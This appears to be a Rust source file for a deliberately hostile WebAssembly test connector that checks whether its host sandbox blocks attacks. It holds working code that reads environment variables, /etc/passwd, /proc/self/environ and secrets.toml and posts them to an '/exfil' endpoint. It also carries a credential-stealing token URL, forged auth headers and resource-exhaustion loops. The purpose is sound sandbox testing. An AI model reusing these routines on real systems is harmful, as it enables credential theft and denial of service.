use std::io::Write as _;
use std::sync::OnceLock;
use std::time::Duration;

wit_bindgen::generate!({
    path: "../../wit",
    world: "identity-connector",
    generate_all,
});

use exports::identity::connector::connector::{Guest, GuestSession, Session};
use identity::connector::types as w;

struct Hostile;
export!(Hostile);

/// The config `open` received: every value the host was willing to give the guest.
static CONFIG: OnceLock<Vec<(String, String)>> = OnceLock::new();

fn config(key: &str) -> String {
    CONFIG.get().and_then(|c| c.iter().find(|(k, _)| k == key)).map(|(_, v)| v.clone()).unwrap_or_default()
}

fn field(key: &str, required: bool, secret: bool, default_value: Option<&str>) -> w::ConfigField {
    w::ConfigField {
        key: key.into(),
        display_name: key.into(),
        description: format!("{key} of the hostile test component"),
        required,
        secret,
        default_value: default_value.map(Into::into),
        choices: Vec::new(),
    }
}

impl Guest for Hostile {
    type Session = Attack;

    fn metadata() -> w::ConnectorMetadata {
        w::ConnectorMetadata {
            name: "hostile".into(),
            version: "0.1.0".into(),
            description: "A connector that attacks its sandbox (tests only)".into(),
            config_schema: vec![
                field("base_url", true, false, None),
                field("attack", false, false, Some("none")),
                field("other_url", false, false, None),
                field("path", false, false, None),
                field("client_id", true, false, None),
                field("client_secret", true, true, None),
            ],
            base_url_field: "base_url".into(),
            extra_origin_fields: Vec::new(),
            auth: w::AuthScheme::Oauth2ClientCredentials(w::Oauth2ClientCredentials {
                // Built as `examples/token_elsewhere.rs`, the component names an origin of its own for the
                // tenant's client credentials, which the host must refuse before sending anything.
                token_url: if crate::TOKEN_ELSEWHERE { "http://127.0.0.1:9/steal".into() } else { "/oauth/token".into() },
                client_id_field: "client_id".into(),
                client_secret_field: "client_secret".into(),
                credentials_in: w::CredentialsPlacement::FormBody,
                credentials_in_field: None,
                grant_type_in: w::ParameterPlacement::FormBody,
                extra_params: Vec::new(),
            }),
            capabilities: vec![w::ResourceTypeCapabilities { resource_type: "account".into(), capabilities: w::Capability::LIST, listed_with: None }],
            write_schemas: Vec::new(),
        }
    }

    fn open(config: Vec<(String, String)>, _provisioning: bool) -> Result<Session, w::ConnectorError> {
        let _ = CONFIG.set(config);
        if self::config("attack") == "fail-open" {
            log("hostile: refusing to open");
            return Err(w::ConnectorError::InvalidConfig("the hostile component refuses to open".into()));
        }
        Ok(Session::new(Attack))
    }
}

pub struct Attack;

fn url(path: &str) -> String {
    format!("{}{path}", config("base_url").trim_end_matches('/'))
}

/// One request; the answer or the error, as text.
fn fetch(method: &str, url: &str, body: Option<Vec<u8>>, header: Option<(&'static str, &'static str)>) -> Result<(u16, String, Vec<(String, String)>), String> {
    let client = waki::Client::new();
    let mut builder = if method == "POST" { client.post(url) } else { client.get(url) };
    builder = builder.connect_timeout(Duration::from_secs(5));
    if let Some((name, value)) = header {
        builder = builder.header(name, value);
    }
    if let Some(body) = body {
        builder = builder.body(body);
    }
    let response = builder.send().map_err(|e| format!("{e:#}"))?;
    let status = response.status_code();
    let headers = response.headers().iter().map(|(k, v)| (k.to_string(), String::from_utf8_lossy(v.as_bytes()).into_owned())).collect();
    let body = response.body().map_err(|e| format!("{e:#}"))?;
    Ok((status, String::from_utf8_lossy(&body).into_owned(), headers))
}

fn log(line: &str) {
    let _ = writeln!(std::io::stderr(), "{line}");
}

/// Sends what the attack found to the one place the guest may reach, the way a real exfiltration would.
fn exfiltrate(report: &str) {
    log(report);
    let sent = fetch("POST", &url("/exfil"), Some(report.as_bytes().to_vec()), None);
    log(&format!("exfil: {}", sent.map(|(s, _, _)| s.to_string()).unwrap_or_else(|e| e)));
}

/// Everything a guest can look at for a credential without the network: its config, environment, arguments
/// and files, and whether it may open a socket or resolve a name.
fn look_around() -> String {
    let mut report = Vec::new();
    report.push(format!("config: {:?}", CONFIG.get().cloned().unwrap_or_default()));
    report.push(format!("env: {:?}", std::env::vars().collect::<Vec<_>>()));
    report.push(format!("args: {:?}", std::env::args().collect::<Vec<_>>()));
    for path in ["/etc/passwd", "/proc/self/environ", "secrets.toml", "/"] {
        let outcome = match std::fs::read(path) {
            Ok(bytes) => format!("read {} bytes", bytes.len()),
            Err(e) => match std::fs::read_dir(path) {
                Ok(entries) => format!("listed {} entries", entries.count()),
                Err(_) => format!("error: {e}"),
            },
        };
        report.push(format!("file {path}: {outcome}"));
    }
    let authority = config("base_url").trim_start_matches("http://").trim_end_matches('/').to_string();
    report.push(format!("tcp {authority}: {:?}", std::net::TcpStream::connect(authority.as_str()).map(|_| "connected").map_err(|e| e.to_string())));
    report.push(format!("dns example.com: {:?}", std::net::ToSocketAddrs::to_socket_addrs(&("example.com", 80)).map(|a| a.count()).map_err(|e| e.to_string())));
    report.join("\n")
}

fn attack() -> Result<(), w::ConnectorError> {
    match config("attack").as_str() {
        "none" => log(&format!("hostile: behaving, listing accounts from {}", config("base_url"))),
        "other-host" => {
            let outcome = fetch("GET", &config("other_url"), None, None);
            log(&format!("other-host: {outcome:?}"));
        }
        "redirect" => {
            // The host does not follow the redirect; the guest tries to, by hand.
            let outcome = fetch("GET", &url("/redirect"), None, None);
            log(&format!("redirect: {outcome:?}"));
            if let Ok((_, _, headers)) = outcome
                && let Some((_, location)) = headers.iter().find(|(k, _)| k.eq_ignore_ascii_case("location"))
            {
                log(&format!("redirect, followed: {:?}", fetch("GET", location, None, None)));
            }
        }
        "memory" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "loop" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "handles" => {
            // Host resources live in host memory, which the guest's memory cap does not count.
            loop {
                std::mem::forget(wasi::http::types::Fields::new());
            }
        }
        "stderr" => {
            let chunk = vec![b'x'; 1 << 16];
            let mut stderr = std::io::stderr();
            for _ in 0..128 {
                let _ = stderr.write_all(&chunk);
            }
            let _ = writeln!(stderr);
        }
        "big-body" => {
            // A request body past the host's cap (1 MiB), which the source must never receive.
            let outcome = fetch("POST", &url("/exfil"), Some(vec![b'x'; 2 << 20]), None);
            log(&format!("big-body: {outcome:?}"));
        }
        "snoop" => exfiltrate(&look_around()),
        "forge-auth" => {
            // A guest that sets its own credentials header, hoping the host passes it on or reveals its own.
            let outcome = fetch("GET", &url("/accounts"), None, Some(("authorization", "Bearer guessed")));
            exfiltrate(&format!("forge-auth: {:?}", outcome.map(|(status, body, headers)| (status, body, headers))));
        }
        attack @ ("echo" | "echo-header") => {
            // A source that reflects request headers, in its body or its own headers, would show the guest the
            // host's token.
            let outcome = fetch("GET", &url(&format!("/{attack}")), None, None);
            exfiltrate(&format!("{attack}: {outcome:?}"));
        }
        "token-endpoint" => {
            // `path`: the token endpoint's path, or another spelling of it that a server would route there.
            let path = Some(config("path")).filter(|p| !p.is_empty()).unwrap_or_else(|| "/oauth/token".into());
            let outcome = fetch("POST", &url(&path), Some(b"grant_type=client_credentials".to_vec()), None);
            log(&format!("token-endpoint: {outcome:?}"));
        }
        other => return Err(w::ConnectorError::InvalidConfig(format!("unknown attack `{other}`"))),
    }
    Ok(())
}

fn account(id: &str, name: &str) -> w::Resource {
    w::Resource {
        id: w::ResourceId { resource_type: "account".into(), id: id.into() },
        parent: None,
        display_name: name.into(),
        description: None,
        status: w::ResourceStatus { kind: w::StatusKind::Enabled, detail: None },
        user: None,
        group: None,
        profile: format!("{{\"id\":\"{id}\",\"name\":\"{name}\"}}"),
        created_at: None,
        updated_at: None,
    }
}

type Out<T> = Result<T, w::ConnectorError>;

fn unsupported<T>() -> Out<T> {
    Err(w::ConnectorError::Unsupported("the hostile component only lists".into()))
}

impl GuestSession for Attack {
    fn validate(&self) -> Out<w::Validation> {
        Ok(w::Validation { summary: "hostile".into() })
    }

    fn resource_types(&self) -> Out<Vec<w::ResourceType>> {
        Ok(vec![w::ResourceType { id: "account".into(), display_name: "Account".into(), traits: vec![], description: None }])
    }

    /// Attacks, then lists the accounts the server has: lines of `id name`.
    fn list_resources(&self, _resource_type: String, _parent: Option<w::ResourceId>, _page_token: Option<String>) -> Out<w::ResourcePage> {
        attack()?;
        let (status, body, _) = fetch("GET", &url("/accounts"), None, None).map_err(|e| w::ConnectorError::Unavailable(w::Failure { message: e, retry_after_ms: None }))?;
        if status != 200 {
            return Err(w::ConnectorError::BadResponse(format!("GET /accounts: HTTP {status}")));
        }
        let resources = body.lines().filter_map(|line| line.split_once(' ')).map(|(id, name)| account(id, name)).collect();
        Ok(w::ResourcePage { resources, entitlements: vec![], grants: vec![], next_token: None, independent_tokens: vec![] })
    }

    /// One `admin` entitlement per account.
    fn list_entitlements(&self, resource: w::ResourceId, _page_token: Option<String>) -> Out<w::EntitlementPage> {
        let entitlement = w::Entitlement {
            id: format!("account:{}:admin", resource.id),
            resource: resource.clone(),
            display_name: "admin".into(),
            description: None,
            slug: "admin".into(),
            purpose: w::EntitlementPurpose::Permission,
            grantable_to: vec!["account".into()],
        };
        Ok(w::EntitlementPage { entitlements: vec![entitlement], next_token: None })
    }

    /// Each account administers itself, on a second page, so the host's per-resource paging is exercised.
    fn list_grants(&self, resource: w::ResourceId, page_token: Option<String>) -> Out<w::GrantPage> {
        if page_token.is_none() {
            return Ok(w::GrantPage { grants: vec![], entitlements: vec![], next_token: Some("2".into()) });
        }
        let entitlement = format!("account:{}:admin", resource.id);
        let grant = w::Grant { id: format!("{entitlement}:account:{}", resource.id), entitlement, principal: resource, immutable: None };
        Ok(w::GrantPage { grants: vec![grant], entitlements: vec![], next_token: None })
    }

    fn get_resource(&self, _id: w::ResourceId) -> Out<w::Resource> {
        unsupported()
    }

    fn grant(&self, _principal: w::ResourceId, _entitlement: String) -> Out<w::GrantOutcome> {
        unsupported()
    }

    fn revoke(&self, _grant: w::Grant) -> Out<w::RevokeOutcome> {
        unsupported()
    }

    fn create_account(&self, _fields: w::Fields) -> Out<w::CreateOutcome> {
        unsupported()
    }

    fn update_resource(&self, _id: w::ResourceId, _fields: w::Fields) -> Out<w::Resource> {
        unsupported()
    }

    fn create_resource(&self, _resource_type: String, _fields: w::Fields) -> Out<w::CreateOutcome> {
        unsupported()
    }

    fn delete_resource(&self, _id: w::ResourceId) -> Out<w::DeleteOutcome> {
        unsupported()
    }
}
